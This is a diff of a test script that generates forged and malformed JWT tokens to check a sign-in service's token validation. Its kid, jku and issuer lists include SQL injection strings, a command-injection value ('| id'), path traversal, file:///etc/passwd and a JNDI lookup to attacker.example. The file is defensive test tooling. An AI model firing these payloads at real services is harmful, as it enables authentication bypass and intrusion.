@@ -1,13 +1,13 @@
 #!/usr/bin/env python3
-"""Prints hostile tokens, one line of JSON each: {"name": …, "token": …}. None of them may be taken by a service that trusts
-the issuer; many are signed by its true key, which signs good ones with --good.
+"""Prints hostile tokens, one line of JSON each: {"name": …, "token": …}. None of them may be taken by a service that
+trusts the issuer; many are signed by its true key, which signs good ones with --good.
 
     python Tests/signin/forge.py --issuer https://login.example.com --audience phonebook \\
         --key issuer.pem --algorithm RS256 --jwks issuer-jwks.json [--kid ID] [--good 3]
 
-The key is a private one in PEM: RSA for RS256 and PS256, P-256 for ES256, Ed25519 for EdDSA. Without --kid it is named as
-the key of the JWK set that is its public half. --nonce makes ID tokens, --claim NAME=JSON adds a claim to all. Tests/signin/
-install.py makes the Python that has PyJWT and joserfc.
+The key is a private one in PEM: RSA for RS256 and PS256, P-256 for ES256, Ed25519 for EdDSA. Without --kid it is named
+as the key of the JWK set that is its public half. --nonce makes ID tokens, --claim NAME=JSON adds a claim to all.
+Tests/signin/install.py makes the Python that has PyJWT and joserfc.
 """
 
 import argparse
@@ -56,7 +56,8 @@ class Forger:
         self.kid = options.kid or self.public.get("kid")
         self.now = options.now or int(time.time())
         self.attacker = {
-            "RS256": lambda: rsa.generate_private_key(65537, 2048), "PS256": lambda: rsa.generate_private_key(65537, 2048),
+            "RS256": lambda: rsa.generate_private_key(65537, 2048),
+            "PS256": lambda: rsa.generate_private_key(65537, 2048),
             "ES256": lambda: ec.generate_private_key(ec.SECP256R1()), "EdDSA": ed25519.Ed25519PrivateKey.generate,
         }[self.algorithm]()
         self.header = {"alg": self.algorithm, "typ": "JWT"} | ({"kid": self.kid} if self.kid else {})
@@ -108,7 +109,8 @@ class Forger:
         forms = {"JWK": compact(self.public).encode(), "empty": b"", "kid": (self.kid or "").encode()}
         encodings, formats = serialization.Encoding, serialization.PublicFormat
         for form, encoding, format in [
-                ("PEM", encodings.PEM, formats.SubjectPublicKeyInfo), ("DER", encodings.DER, formats.SubjectPublicKeyInfo),
+                ("PEM", encodings.PEM, formats.SubjectPublicKeyInfo),
+                ("DER", encodings.DER, formats.SubjectPublicKeyInfo),
                 ("PKCS #1 in PEM", encodings.PEM, formats.PKCS1), ("PKCS #1 in DER", encodings.DER, formats.PKCS1)]:
             try:
                 forms[form] = public.public_bytes(encoding, format)
@@ -118,7 +120,8 @@ class Forger:
         for (form, secret), (alg, digest) in itertools.product(
                 forms.items(), [("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)]):
             message = start(alg)
-            yield f"{alg} by the public key, {form}", f"{message}.{encode(hmac.digest(secret, message.encode(), digest))}"
+            code = hmac.digest(secret, message.encode(), digest)
+            yield f"{alg} by the public key, {form}", f"{message}.{encode(code)}"
         for alg in ["RS256", "PS256", "ES256", "EdDSA"]:
             if alg != self.algorithm:
                 yield f"{self.algorithm} called {alg}", self.with_header(alg=alg)
@@ -144,13 +147,16 @@ class Forger:
             yield f"{name} with the attacker's key, no kid", self.with_header(key=attacker, kid=..., **{name: value})
             yield f"{name}, truly signed", self.with_header(**{name: value})
             yield f"{name} null, truly signed", self.with_header(**{name: None})
-        for jku in [self.options.issuer, self.options.issuer + "/../attacker", "file:///etc/passwd", "http://127.0.0.1:1/"]:
+        issuer = self.options.issuer
+        for jku in [issuer, issuer + "/../attacker", "file:///etc/passwd", "http://127.0.0.1:1/"]:
             yield f"jku {jku}", self.with_header(key=attacker, jku=jku)
         for name, values in {
                 "crit": [["exp"], ["b64"], [], None, ["x"]], "b64": [False, True], "zip": ["DEF", None],
                 "cty": ["JWT", "jwt", "application/jwt"],
-                "typ": ["logout+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "", "JWE", 1, None, ["JWT"], "id+jwt", "JWT "],
-                "kid": ["", "../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key'--", "k" * 257, "q" * 300,
+                "typ": ["logout+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "", "JWE", 1, None, ["JWT"], "id+jwt",
+                        "JWT "],
+                "kid": ["", "../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key'--", "k" * 257,
+                        "q" * 300,
                         None, 1, [self.kid], {}, True, f"{self.kid} ", f"{self.kid}\0", "| id", "\u212a",
                         "%2e%2e%2f", "http://attacker.example/key", "${jndi:ldap://attacker.example/a}"]}.items():
             for value in values:
@@ -158,9 +164,11 @@ class Forger:
 
     def dates(self):
         now = self.now
-        wrong = ["null", f'"{now + 300}"', "-1", "1e300", "1e400", "-1e400", f"{(now + 300) * 1000}", "true", "[]", "{}",
+        wrong = ["null", f'"{now + 300}"', "-1", "1e300", "1e400", "-1e400", f"{(now + 300) * 1000}", "true", "[]",
+                 "{}",
                  f"[{now + 300}]", '""', "99999999999999999999999", "253402300800"]
-        malformed = ["NaN", "Infinity", "-Infinity", f"0{now + 300}", f"+{now + 300}", "0x7fffffff", "", f"{now + 300}."]
+        malformed = ["NaN", "Infinity", "-Infinity", f"0{now + 300}", f"+{now + 300}", "0x7fffffff", "",
+                     f"{now + 300}."]
         for claim, text in itertools.product(["exp", "nbf", "iat"], wrong + malformed):
             yield f"{claim} {text}", self.with_json(claim, text)
         yield "no exp", self.with_claims(exp=...)
@@ -168,14 +176,17 @@ class Forger:
             yield f"expired {seconds} s ago", self.with_claims(exp=now - seconds)
         for text in ["0", "-0", "0.0", "1", "1e0", "1e-300"]:
             yield f"exp {text}", self.with_json("exp", text)
-        for claim, seconds in itertools.product(["nbf", "iat"], [300, 3600, 86400 * 365]):
+        # Far enough that they are still to come when they are sent.
+        for claim, seconds in itertools.product(["nbf", "iat"], [7200, 86400, 86400 * 365]):
             yield f"{claim} in {seconds} s", self.with_claims(**{claim: now + seconds, "exp": now + seconds + 300})
 
     def names(self):
         issuer, audience = self.options.issuer, self.options.audience
-        for value in [..., None, "", 1, [issuer], {"iss": issuer}, issuer + "/", issuer + " ", issuer.upper(), issuer[:-1],
+        for value in [..., None, "", 1, [issuer], {"iss": issuer}, issuer + "/", issuer + " ", issuer.upper(),
+                      issuer[:-1],
                       issuer + "\0", issuer + "#", issuer + "?x", "https://attacker.example",
-                      issuer.replace("://", "://attacker.example@"), issuer.replace("https", "http") + "//", " " + issuer]:
+                      issuer.replace("://", "://attacker.example@"), issuer + "//",
+                      " " + issuer]:
             yield f"iss {value!r}", self.with_claims(iss=value)
         for value in [..., None, "", [], 1, {}, {audience: True}, audience + " ", audience.upper() + "X", audience[:-1],
                       audience + "/", [audience + "x"], [[audience]], [audience, 1], [None], "*", audience + ",x",
@@ -199,10 +210,12 @@ class Forger:
             "with NUL behind": lambda text: text + "\0", "with NUL before": lambda text: "\0" + text,
             "twice": lambda text: text + text, "in an array": lambda text: f"[{text}]", "as a string": json.dumps,
             "cut off": lambda text: text[:-1], "with a comma behind": lambda text: text[:-1] + ",}",
-            "with a comment": lambda text: text + "/**/", "with bad UTF-8": lambda text: text[:-1].encode() + b',"x":"\xff"}',
+            "with a comment": lambda text: text + "/**/",
+            "with bad UTF-8": lambda text: text[:-1].encode() + b',"x":"\xff"}',
             "with overlong UTF-8": lambda text: text[:-1].encode() + b',"x":"\xc0\x80"}',
             "with half a surrogate": lambda text: text[:-1] + ',"x":"\\ud800"}',
-            "with a raw NUL": lambda text: text[:-1] + ',"x":"\0"}', "with a raw line feed": lambda text: text[:-1] + ',"x":"\n"}',
+            "with a raw NUL": lambda text: text[:-1] + ',"x":"\0"}',
+            "with a raw line feed": lambda text: text[:-1] + ',"x":"\n"}',
             "in single quotes": lambda text: text.replace('"', "'"), "that is null": lambda text: "null",
             "that is a space": lambda text: " ", "that is {}": lambda text: "{}", "that is a number": lambda text: "1",
             "with open arrays": lambda text: text[:-1] + ',"x":' + "[" * 1000,
@@ -216,10 +229,12 @@ class Forger:
             yield f"header {name}", self.token(header=change(header))
             yield f"payload {name}", self.token(claims=change(claims))
         for name in self.header:
-            yield f"{name} twice in the header", self.token(header=header[:-1] + f',"{name}":{json.dumps(self.header[name])}}}')
+            again = f',"{name}":{json.dumps(self.header[name])}}}'
+            yield f"{name} twice in the header", self.token(header=header[:-1] + again)
             yield f"{name} twice, first none", self.token(header=f'{{"{name}":"none",' + header[1:])
         for name in self.claims:
-            yield f"{name} twice in the payload", self.token(claims=claims[:-1] + f',"{name}":{json.dumps(self.claims[name])}}}')
+            again = f',"{name}":{json.dumps(self.claims[name])}}}'
+            yield f"{name} twice in the payload", self.token(claims=claims[:-1] + again)
             yield f"{name} twice, first another", self.token(claims=f'{{"{name}":"admin",' + claims[1:])
         yield "over 8 KiB", self.with_claims(x="x" * 7000)
         yield "10,000 arrays deep", self.with_json("x", "[" * 10_000 + "]" * 10_000)
@@ -228,7 +243,8 @@ class Forger:
         good = self.token()
         header, payload, signature = good.split(".")
         yield from {
-            "nothing signed": f"{header}.{payload}.", "without signature": f"{header}.{payload}", "only a header": header,
+            "nothing signed": f"{header}.{payload}.", "without signature": f"{header}.{payload}",
+            "only a header": header,
             "dots": "..", "a dot": ".", "a word": "token", "a part more": good + ".AAAA", "a dot more": good + ".",
             "a dot before": "." + good, "no header": f".{payload}.{signature}", "no payload": f"{header}..{signature}",
             "shape of a JWE": f"{header}.AAAA.AAAA.{payload}.{signature}", "8 KiB of dots": "." * 8192,
@@ -243,8 +259,9 @@ class Forger:
                 "padded": lambda part: part + "=", "padded twice": lambda part: part + "==",
                 "with a space": lambda part: part[:4] + " " + part[4:], "with a space behind": lambda part: part + " ",
                 "with +": lambda part: "+" + part[1:], "with /": lambda part: "/" + part[1:],
-                "with !": lambda part: part + "!", "with %3D": lambda part: part + "%3D", "with one sign more": lambda part:
-                part + "A", "a sign short": lambda part: part[:-1], "with a tab": lambda part: part[:8] + "\t" + part[8:],
+                "with !": lambda part: part + "!", "with %3D": lambda part: part + "%3D",
+                "with one sign more": lambda part: part + "A", "a sign short": lambda part: part[:-1],
+                "with a tab": lambda part: part[:8] + "\t" + part[8:],
         }.items()):
             parts = good.split(".")
             parts[index] = change(parts[index])
@@ -273,9 +290,11 @@ class Forger:
             number = lambda value: value.to_bytes(32, "big")
             r, s = raw[:32], raw[32:]
             changes |= {
-                "DER": encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big")), "r zero": number(0) + s,
+                "DER": encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big")),
+                "r zero": number(0) + s,
                 "s zero": r + number(0), "r and s the order": number(ORDER) * 2, "r and s one": number(1) * 2,
-                "r one, s zero": number(1) + number(0), "r order, s one": number(ORDER) + number(1), "turned round": s + r,
+                "r one, s zero": number(1) + number(0), "r order, s one": number(ORDER) + number(1),
+                "turned round": s + r,
             }
         if isinstance(self.key, rsa.RSAPrivateKey):
             modulus = self.key.public_key().public_numbers().n
@@ -308,7 +327,8 @@ class Forger:
 
     def all(self):
         return itertools.chain(
-            self.algorithms(), self.headers(), self.dates(), self.names(), self.documents(), self.shapes(), self.signatures())
+            self.algorithms(), self.headers(), self.dates(), self.names(), self.documents(), self.shapes(),
+            self.signatures())
 
 
 def claim(text):
